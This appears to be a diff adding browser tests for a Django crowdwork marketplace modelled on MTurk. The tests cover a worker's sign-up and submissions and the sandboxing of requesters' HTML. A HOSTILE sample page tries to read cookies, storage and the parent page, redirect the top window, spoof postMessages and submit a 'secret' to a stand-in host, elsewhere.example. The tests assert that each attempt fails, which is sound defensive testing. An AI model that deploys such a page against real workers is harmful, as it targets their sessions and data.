@@ -1,0 +1,235 @@
+"""A Worker's whole way in a real browser, and requesters' pages that attack."""
+
+import re
+from collections.abc import Callable, Iterator
+from urllib.parse import urlsplit
+
+import pytest
+from django.conf import settings as django_settings
+from django.test import override_settings
+from playwright.sync_api import Page, expect
+from pytest_django.live_server_helper import LiveServer
+
+from marketplace.models import HIT, Assignment, Worker
+from marketplace.models.assignment import AssignmentState
+from marketplace.worker_site import frames, origins
+from tests.marketplace.conftest import Market
+from tests.marketplace.worker_site.conftest import html_question
+from tests.marketplace.worker_site.test_submitting import answers
+
+pytestmark = pytest.mark.django_db(transaction=True)
+
+
+@pytest.fixture
+def site(live_server: LiveServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
+    """The marketplace at an address of its own, content below it, as it is set up without settings."""
+    content = f"{live_server.url}/content/"
+    monkeypatch.setattr(origins, "CONTENT_HOST", urlsplit(content).netloc)
+    policy = {
+        **django_settings.CONTENT_SECURITY_POLICY,
+        "DIRECTIVES": {
+            **django_settings.CONTENT_SECURITY_POLICY["DIRECTIVES"],
+            "frame-src": ["'self'", live_server.url],
+        },
+    }
+    with override_settings(
+        MARKETPLACE_URL=live_server.url,
+        MARKETPLACE_CONTENT_URL=content,
+        CONTENT_ORIGIN=live_server.url,
+        CONTENT_SECURITY_POLICY=policy,
+    ):
+        yield live_server.url
+
+
+@pytest.fixture
+def complaints(page: Page) -> list[str]:
+    """What the browser's console says went wrong, on our pages and in the frames."""
+    said: list[str] = []
+    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
+    page.on("pageerror", lambda error: said.append(str(error)))
+    return said
+
+
+@pytest.fixture
+def accept(site: str, page: Page) -> Callable[[HIT], Assignment]:
+    """A fresh test Worker accepts a HIT of the group."""
+
+    def accept(hit: HIT) -> Assignment:
+        page.goto(f"{site}/test-worker?group={hit.hit_type.mturk_id}")
+        page.get_by_role("button", name="Accept for").click()
+        page.wait_for_url("**/tasks/*")
+        return Assignment.objects.get(hit=hit, state=AssignmentState.ACCEPTED)
+
+    return accept
+
+
+def test_a_worker_signs_up_answers_two_hits_in_a_row_and_sees_what_waits(
+    market: Market, site: str, page: Page, complaints: list[str]
+) -> None:
+    form = "<p>Which colour?</p><form><label>Colour <input name=colour required></label><button>Send it</button></form>"
+    first, second = (market.create_hit(Question=html_question(form)) for _ in range(2))
+
+    page.goto(site)
+    page.get_by_role("link", name="Name the colour").click()
+    page.get_by_role("link", name="Sign in to accept").click()
+    page.get_by_role("link", name="Make a Worker account").click()
+    page.get_by_label("E-mail address").fill("wanda@example.org")
+    page.get_by_label("Password").fill("colours and numbers")
+    page.get_by_role("button", name="Make the account").click()
+    page.get_by_role("button", name="Accept for $0.50").click()
+    expect(page.locator("[data-clock]")).to_have_text(re.compile(r"9:5\d|10:00"))
+    page.get_by_label("Next one by itself").check()
+    for colour in ("red", "blue"):
+        work = page.url
+        question = page.frame_locator("#work-frame")
+        question.get_by_label("Colour").fill(colour)
+        question.get_by_role("button", name="Send it").click()
+        page.wait_for_url(lambda url, work=work: url != work)
+    expect(page.get_by_text("There are no HITs left here.")).to_be_visible()
+    page.get_by_role("link", name="Earnings").click()
+    expect(page.get_by_text("2 sent: 0 approved, 2 waiting, 0 rejected")).to_be_visible()
+
+    assert [answers(hit.assignments.get()) for hit in (first, second)] == [
+        [("colour", "red")],
+        [("colour", "blue")],
+    ]
+    assert complaints == []
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        pytest.param("<p>Colour?</p><input name=colour value=red>", id="no form at all"),
+        pytest.param("<form><input name=colour value=red></form>", id="a form without a button"),
+        pytest.param(
+            "<form action='https://www.mturk.com/mturk/externalSubmit'>"
+            "<input type=hidden name=assignmentId value=''><input name=colour value=red><input type=submit></form>",
+            id="MTurk's address and an empty id",
+        ),
+        pytest.param(
+            "<script src='https://s3.amazonaws.com/mturk-public/externalHIT_v1.js'></script>"
+            "<form id=mturk_form method=post action='https://workersandbox.mturk.com/mturk/externalSubmit'>"
+            "<input type=hidden name=assignmentId id=assignmentId><input name=colour value=red>"
+            "<input type=submit id=submitButton value=Submit></form><script>turkSetAssignmentID();</script>",
+            id="MTurk's old helper",
+        ),
+        pytest.param(
+            "<form id=f><input type=hidden name=colour value=red></form>"
+            "<button type=button onclick='document.getElementById(\"f\").submit()'>Submit</button>",
+            id="sent by the page's own script",
+        ),
+    ],
+)
+def test_pages_written_for_mturk_can_be_submitted(
+    market: Market, accept: Callable[[HIT], Assignment], page: Page, html: str
+) -> None:
+    assignment = accept(market.create_hit(Question=html_question(html)))
+
+    page.frame_locator("#work-frame").locator("button, [type=submit]").click()
+
+    expect(page.get_by_text("Sent. The requester will decide about it.")).to_be_visible()
+    assert answers(assignment) == [("colour", "red")]
+
+
+def test_in_a_preview_our_own_button_says_what_to_do_first(market: Market, site: str, page: Page) -> None:
+    hit = market.create_hit(Question=html_question("<input name=colour>"))
+
+    page.goto(f"{site}/mturk/preview?groupId={hit.hit_type.mturk_id}")
+
+    button = page.frame_locator("#work-frame").get_by_role("button", name="Accept this HIT to answer")
+    expect(button).to_be_disabled()
+
+
+def test_a_frame_grows_with_what_it_holds_and_a_page_as_tall_as_its_frame_does_not_run_away(
+    market: Market, site: str, page: Page
+) -> None:
+    tall = market.create_hit(Title="Tall", Question=html_question("<div style='height:1700px'>x</div>"))
+    page.goto(f"{site}/mturk/preview?groupId={tall.hit_type.mturk_id}")
+    frame = page.locator("#work-frame")
+    expect(frame).to_have_css("height", re.compile("17[0-9][0-9]px"))
+
+    endless = "<style>body{min-height:100vh;margin:0;border-top:30px solid}</style>"
+    running = market.create_hit(Title="Running", Question=html_question(endless))
+    page.goto(f"{site}/mturk/preview?groupId={running.hit_type.mturk_id}")
+    page.wait_for_timeout(500)
+    box = frame.bounding_box()
+    assert box
+    assert box["height"] < 1000
+
+
+HOSTILE = """<!doctype html><title>Hostile</title><pre id=out></pre>
+<form id=away action="https://elsewhere.example/collect"><input name=secret value=1></form>
+<script>
+const tried = {};
+const attempt = (name, act) => { try { tried[name] = String(act()); } catch (error) { tried[name] = error.name; } };
+attempt("cookies", () => document.cookie);
+attempt("storage", () => localStorage.length);
+attempt("parent's page", () => parent.document.title);
+attempt("parent's address", () => parent.location.href);
+attempt("top", () => { top.location = "/sign-out-by-force"; });
+attempt("window", () => window.open("/tasks"));
+attempt("alert", () => alert("boo"));
+attempt("origin", () => self.origin);
+document.getElementById("out").textContent = JSON.stringify(tried);
+parent.postMessage({ mturkhub: "submitted" }, "*");
+parent.postMessage({ mturkhub: "height", height: 1e12 }, "*");
+fetch("/tasks", { credentials: "include" }).then(
+  () => { document.title = "read"; }, () => { document.title = "refused"; });
+setTimeout(() => document.getElementById("away").submit(), 100);
+</script>"""
+
+
+def test_a_hostile_page_reaches_nothing_of_the_workers(
+    market: Market, site: str, accept: Callable[[HIT], Assignment], page: Page
+) -> None:
+    popups: list[Page] = []
+    page.context.on("page", lambda popup: popups.append(popup))
+    hit = market.create_hit(Question=html_question(HOSTILE))
+    sent_elsewhere: list[str] = []
+    page.on(
+        "request", lambda request: sent_elsewhere.append(request.url) if "elsewhere" in request.url else None
+    )
+
+    assignment = accept(hit)
+
+    frame = page.frames[1]
+    tried = frame.evaluate("JSON.parse(document.getElementById('out').textContent)")
+    assert tried == {
+        "cookies": "SecurityError",
+        "storage": "SecurityError",
+        "parent's page": "SecurityError",
+        "parent's address": "SecurityError",
+        "top": "SecurityError",
+        "window": "null",
+        "alert": "undefined",
+        "origin": "null",
+    }
+    page.wait_for_timeout(400)
+    assert sent_elsewhere == []
+    assert popups == []
+    # The hints were not believed: the Worker is where they were, and the frame no taller than a page.
+    assert page.url == f"{site}/tasks/{assignment.mturk_id}"
+    assignment.refresh_from_db()
+    assert assignment.state == AssignmentState.ACCEPTED
+    box = page.locator("#work-frame").bounding_box()
+    assert box
+    assert box["height"] <= 12_100
+
+
+def test_requesters_html_opened_by_itself_is_in_the_sandbox_too(
+    market: Market, site: str, page: Page, wanda: Worker
+) -> None:
+    """A link straight to the content, without our frame around it, while the Worker is signed in."""
+    page.goto(f"{site}/sign-in")
+    page.get_by_label("E-mail address").fill("wanda@example.org")
+    page.get_by_label("Password").fill("colours and numbers")
+    page.get_by_role("button", name="Sign in").click()
+    # By itself it may go where it likes: it is nobody's frame.
+    staying = HOSTILE.replace("setTimeout", "0 && setTimeout").replace("top.location", "self.unused")
+    hit = market.create_hit(Question=html_question(staying))
+
+    page.goto(frames.frame_for(hit).url)
+
+    tried = page.evaluate("JSON.parse(document.getElementById('out').textContent)")
+    assert tried["cookies"] == tried["storage"] == "SecurityError"
+    assert tried["origin"] == "null"
